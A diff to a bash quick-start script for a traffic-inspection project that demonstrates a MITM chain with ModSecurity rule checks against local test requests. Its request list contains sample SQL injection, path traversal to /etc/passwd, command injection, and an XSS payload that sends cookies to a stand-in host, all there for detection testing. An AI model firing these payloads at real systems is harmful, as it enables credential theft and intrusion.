@@ -1,7 +1,9 @@
 #!/bin/bash
-# Quick start: install what is needed, build, and run the main job — the TAP
-# collector — on sample traffic the project generates. As root, from the top
-# of the source tree:
+# Quick start: install what is needed, build, and run what is built on traffic
+# the project generates — the TAP stream (dpi-collector on generated captures),
+# then the MITM stream (curl -> HAProxy -> mitmdump + addon -> dpi-bridge-mitm ->
+# dpi-buffer) with clean requests and attacks: live verdicts and deep-analysis
+# alerts. As root, from the top of the source tree:
 #     deploy/quickstart.sh
 set -euo pipefail
 cd "$(dirname "$0")/.."
@@ -11,7 +13,10 @@ cmake --build build -j "$(nproc)"
 
 run=$(mktemp -d /tmp/dpi-dual-demo.XXXXXX)
 tail_pid=""
-trap '[ -n "$tail_pid" ] && kill "$tail_pid" 2> /dev/null; rm -rf "$run"' EXIT
+TMP=$run BUILD_DIR=$PWD/build SOURCE_DIR=$PWD
+fail() { echo "quickstart: $*" >&2; exit 1; }
+. tests/lib/mitm_chain.sh
+trap '[ -n "$tail_pid" ] && kill "$tail_pid" 2> /dev/null; chain_stop; rm -rf "$run"' EXIT
 cat > "$run/dpi-dual.yaml" <<YAML
 global:
   run_dir: $run/run
@@ -50,3 +55,69 @@ for r in ends:
     print(f"{r['proto']:<12} {src:>22} -> {dst:<22} {r['vlan']:>4} {pkts:>9} {host:<24} {r['community_id']}")
 print(f"{len(rows)} tap.flow events received on the bus, {len(ends)} flows")
 PY
+
+echo
+echo "== the MITM stream: HAProxy (TLS) -> mitmdump + the dpi_bridge.py addon -> backend;"
+echo "   dpi-bridge-mitm gives live verdicts (ban list, fast rules), dpi-buffer analyses"
+echo "   every request off the request path with the OWASP CRS (ModSecurity)"
+chain_ports 3
+read -r p_back p_mitm p_tls <<< "${CHAIN_PORTS[*]}"
+cat >> "$run/dpi-dual.yaml" <<YAML
+mitm:
+  socket: $run/run/bridge-mitm.sock
+  trusted_proxies: ["127.0.0.1"]
+  rules_file: $PWD/deploy/bridge-mitm/rules.yaml
+  verdict_deadline_ms: 20
+buffer:
+  modsecurity_conf: $PWD/deploy/buffer/modsecurity.conf
+  analysis_threads: 2
+YAML
+chain_tls
+chain_haproxy "$p_tls" "$p_mitm"
+chain_spawn "$run/backend.log" python3 tests/mitm/backend.py "$p_back" "$run/backend.hits"
+chain_spawn "$run/bridge.log" build/bridge-mitm/dpi-bridge-mitm -c "$run/dpi-dual.yaml"
+chain_spawn "$run/buffer.log" build/buffer/dpi-buffer -c "$run/dpi-dual.yaml"
+chain_spawn "$run/tail.err" sh -c "exec build/ctl/dpi-dualctl tail -c '$run/dpi-dual.yaml' \
+    mitm.verdict buffer.alert > '$run/mitm.jsonl'"
+chain_mitmdump "$run/mitm.log" "$p_mitm" "$p_back" "$run/run/bridge-mitm.sock" \
+    --set dpi_verdict_deadline_ms=20
+chain_spawn "$run/haproxy.log" haproxy -db -f "$run/haproxy.cfg"
+chain_wait 30 test -S "$run/run/buffer.query" || fail "dpi-buffer did not start (see $run/buffer.log)"
+chain_wait 30 port_open "$p_mitm" || fail "mitmdump did not start"
+chain_wait 10 port_open "$p_tls" || fail "haproxy did not start"
+
+req() {
+    local from=$1; shift
+    curl -sk --max-time 10 --resolve "shop.test:$p_tls:127.0.0.1" --interface "$from" \
+        -o /dev/null -w "%{http_code}" -A "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0" \
+        -H "Accept: text/html" "$@" || true
+}
+url="https://shop.test:$p_tls"
+printf '%-10s %-62s %s\n' client request status
+while read -r from what; do
+    # shellcheck disable=SC2086
+    printf '%-10s %-62.62s %s\n' "$from" "$what" "$(req "$from" $what)"
+done <<REQS
+127.0.0.2 $url/
+127.0.0.2 $url/catalogue?page=2&sort=price
+127.0.0.2 $url/cart --data item=42&qty=1
+127.0.0.3 $url/search?q=1%27%20union%20select%20password%20from%20users--
+127.0.0.4 $url/view?file=../../../../etc/passwd
+127.0.0.5 $url/ping?host=127.0.0.1%3Bcat%20/etc/passwd
+127.0.0.6 $url/comment --data text=%3Cscript%3Edocument.location%3D%27//evil.test/%27%2Bdocument.cookie%3C/script%3E
+REQS
+sleep 3
+echo
+echo "== what the bridge blocked live (mitm.verdict) and what dpi-buffer found (buffer.alert):"
+python3 - "$run/mitm.jsonl" <<'PY'
+import json, sys
+for line in open(sys.argv[1]):
+    m = json.loads(line)
+    if m["topic"] == "mitm.verdict":
+        print(f"verdict  {m['client_ip']:<10} {m['action']:<6} rule {m['rule_id']} ({m['category']})")
+    else:
+        rules = ",".join(m["rule_ids"][:6])
+        print(f"alert    {m['client_ip']:<10} {m['method']:<5}{m['path']:<12} CRS score {m['anomaly_score']:>3}"
+              f"  {m['category']:<9} rules {rules}")
+PY
+echo "(every request is in dpi-buffer's ring: build/ctl/dpi-dualctl context 127.0.0.3 -c FILE)"
